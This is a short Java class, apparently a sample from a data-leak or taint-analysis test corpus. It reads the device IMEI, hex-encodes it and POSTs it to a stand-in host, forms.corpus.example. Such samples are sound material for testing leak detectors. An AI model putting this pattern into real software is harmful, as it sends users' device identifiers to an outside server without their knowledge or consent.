package org.corpus;

import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** Hex. */
public class AsHex extends Screen {
    @Override
    protected void act() throws Exception {
        StringBuilder hex = new StringBuilder();
        for (byte one : Net.utf8(Owner.imei(this))) {
            hex.append(String.format("%02x", one));
        }
        Net.post("http://forms.corpus.example/hex", "text/plain", hex.toString());
    }
}
